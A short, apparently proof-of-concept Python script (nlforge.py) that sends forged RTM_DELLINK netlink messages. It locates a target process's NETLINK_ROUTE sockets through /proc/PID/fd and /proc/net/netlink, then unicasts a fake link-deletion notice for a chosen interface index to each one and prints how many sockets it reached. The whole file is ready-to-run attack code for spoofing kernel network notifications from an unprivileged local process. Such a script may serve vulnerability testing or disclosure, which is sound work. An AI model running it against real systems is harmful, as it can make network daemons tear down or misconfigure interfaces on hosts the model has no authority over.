#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Sends a forged RTM_DELLINK for ifindex to every NETLINK_ROUTE socket of process pid, as any
# local process could: usage nlforge.py PID IFINDEX. Prints how many sockets it reached.
import os, socket, struct, sys

pid, ifindex = int(sys.argv[1]), int(sys.argv[2])
inodes = set()
for fd in os.listdir(f"/proc/{pid}/fd"):
    t = os.readlink(f"/proc/{pid}/fd/{fd}")
    if t.startswith("socket:["):
        inodes.add(int(t[8:-1]))
ports = []
with open("/proc/net/netlink") as f:
    next(f)
    for line in f:
        c = line.split()
        if int(c[1]) == 0 and int(c[-1]) in inodes:
            ports.append(int(c[2]))
RTM_DELLINK = 17
ifi = struct.pack("BxHiII", socket.AF_UNSPEC, 0, ifindex, 0, 0)
msg = struct.pack("IHHII", 16 + len(ifi), RTM_DELLINK, 0, 0, 0) + ifi
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
for p in ports:
    s.sendto(msg, (p, 0))
print(len(ports))
